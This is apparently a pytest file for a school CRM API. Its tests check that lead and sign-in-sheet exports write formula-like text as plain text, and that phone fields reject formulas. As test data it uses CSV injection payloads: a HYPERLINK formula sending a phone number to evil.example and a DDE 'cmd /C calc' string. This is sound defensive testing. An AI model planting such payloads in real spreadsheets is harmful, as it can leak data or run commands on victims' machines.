"""Every spreadsheet and CSV the API writes is safe to open (issue 13, item 2): text that a
spreadsheet would run as a formula is written as text, phones are stored only as E.164,
and control characters already stored never make a sheet fail."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from openpyxl import load_workbook

from chalicelib.db import config as config_db
from chalicelib.db import leads as leads_db
from chalicelib.domain import clock, config
from chalicelib.schemas.settings import DictionaryKind
from tests.test_cards import member_with_contract
from tests.test_leads import lead_body

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?13100134002")'


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.body[:300]
    return list(csv.reader(io.StringIO(response.body.decode("utf-8").lstrip("\ufeff"))))


def _sheet(response, index=0):
    assert response.status_code == 200, response.body[:300]
    return load_workbook(io.BytesIO(response.body)).worksheets[index]


def test_a_phone_holding_a_formula_or_letters_is_refused_naming_the_field(school):
    manager = school.staff("manager")
    for written in (FORMULA, "138-0013-8000 ext", "+86 138 0013 8000;"):
        refused = manager.post("/leads", lead_body(name="王小明", phone=written))
        assert refused.status_code == 400, refused.body
        assert refused.json_body["error"]["details"][0]["field"] == "guardians.0.phones.0"
    assert manager.post("/leads", lead_body(name="王小明", phone="(0755) 8888-1234")).status_code == 201


def test_phones_are_stored_and_exported_only_as_e164(school):
    manager = school.staff("manager")
    body = lead_body(name="王小明", phone="138 0013 8000")
    body["guardians"][0]["phones"].append("(0755) 8888-1234")
    made = manager.post("/leads", body).json_body
    revealed = manager.post(f"/leads/{made['id']}/reveal-phone").json_body
    assert revealed["guardians"][0]["phones"] == [{"e164": "+8613800138000"}, {"e164": "+8675588881234"}]
    rows = _csv_rows(manager.get("/leads/export?format=csv"))
    assert rows[1][4:6] == ["'+8613800138000", "'+8675588881234"]  # a + first is a formula in a CSV


def test_formula_like_text_is_exported_as_text(school):
    manager = school.staff("manager")
    manager.post("/leads", {**lead_body(name=FORMULA, phone="13800138000"), "notes": "@SUM(1+1)*cmd|' /C calc'!A0"})
    manager.post("/leads", {**lead_body(name="-2+3", phone="13900139000"), "notes": "+1 加一"})
    sheet = _sheet(manager.request("GET", "/leads/export?format=xlsx&sort=newest", headers={"Accept": XLSX}))
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for name, notes in ((FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0"), ("-2+3", "+1 加一")):
        assert cells[name][0].data_type == "s" and cells[name][12].value == notes
        assert cells[name][12].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    rows = {row[0]: row for row in _csv_rows(manager.get("/leads/export?format=csv"))[1:]}
    assert rows["'" + FORMULA][12] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["'-2+3"][12] == "'+1 加一"


def test_the_sign_in_sheet_csv_writes_a_formula_name_as_text(school):
    manager = school.staff("manager")
    event = manager.post(
        "/events", {"name": "亲子派对", "starts_at": (clock.now() + timedelta(days=3)).isoformat(), "capacity": 5}
    ).json_body
    lead = manager.post("/leads", lead_body(name=FORMULA, phone="13800138000")).json_body
    booked = manager.post(f"/leads/{lead['id']}/appointments", {"kind": "event", "event_id": event["id"]})
    assert booked.status_code == 201, booked.body
    rows = _csv_rows(manager.get(f"/events/{event['id']}/sign-in-sheet?format=csv"))
    assert rows[1][1] == "'" + FORMULA


def test_control_characters_already_stored_never_break_a_sheet(school):
    manager = school.staff("manager")
    made = manager.post("/leads", lead_body(name="王小明", phone="13800138000")).json_body
    lead, version = leads_db.get_with_version(school.slug, made["id"])
    leads_db.save(school.slug, lead.model_copy(update={"name": "王\x00小\x01明", "notes": "=1+1\x0b"}), version)
    sources = config.get_dictionary(school.slug, DictionaryKind.sources).entries
    body = [e.model_dump() for e in sources]
    body[0]["label"] = "\x01" + body[0]["label"]
    assert config_db.put_dictionary(school.slug, "sources", body, must_not_use=set())

    exported = _sheet(manager.request("GET", "/leads/export?format=xlsx", headers={"Accept": XLSX}))
    row = next(exported.iter_rows(min_row=2, values_only=True))
    assert row[0] == "王小明" and row[12] == "=1+1"
    assert _csv_rows(manager.get("/leads/export?format=csv"))[1][0] == "王小明"

    choices = _sheet(manager.get("/leads/import-template?lang=zh", headers={"Accept": XLSX}), 1)
    assert sources[0].label in [r[1] for r in choices.iter_rows(values_only=True)]

    upload = "姓名,电话,备注\n王\x01六,not a phone,\x00=2+2\n".encode()
    result = manager.post("/leads/imports", upload, headers={"Content-Type": "application/octet-stream"})
    assert result.status_code in (200, 201, 202), result.body
    errors = _sheet(manager.get(f"/leads/imports/{result.json_body['id']}/errors", headers={"Accept": XLSX}))
    rejected = [cell for cell in list(errors.iter_rows())[1]]
    assert [c.value for c in rejected[2:5]] == ["王六", "not a phone", "=2+2"]
    assert rejected[4].data_type == "s"


def test_a_csv_we_wrote_imports_back_as_it_was(school, other_school):
    manager = school.staff("manager")
    manager.post("/leads", lead_body(name="-王小明", phone="13800138000"))
    exported = manager.get("/leads/export?format=csv").body
    other = other_school.staff("manager")
    result = other.post("/leads/imports", exported, headers={"Content-Type": "application/octet-stream"}).json_body
    assert result["counts"]["imported"] == 1, result
    lead = other.get("/leads").json_body["items"][0]
    assert lead["name"] == "-王小明"
    assert other.post(f"/leads/{lead['id']}/reveal-phone").json_body["guardians"][0]["phones"][0]["e164"] == (
        "+8613800138000"
    )


def test_a_card_holder_phone_is_a_phone_number_or_refused(school):
    alice, front = school.staff("consultant"), school.staff("frontdesk")
    lead, contract = member_with_contract(alice)
    card = {"holder_lead_id": lead["id"], "contract_ids": [contract["id"]]}
    refused = front.post("/cards", {**card, "holder_phone": FORMULA})
    assert refused.status_code == 400 and refused.json_body["error"]["details"][0]["field"] == "holder_phone"
    opened = front.post("/cards", {**card, "holder_phone": "139 0013 9222"})
    assert opened.status_code == 201, opened.body
    changed = front.patch(f"/cards/{opened.json_body['id']}", {"holder_phone": "@13900139333"})
    assert changed.status_code == 400 and changed.json_body["error"]["details"][0]["field"] == "holder_phone"
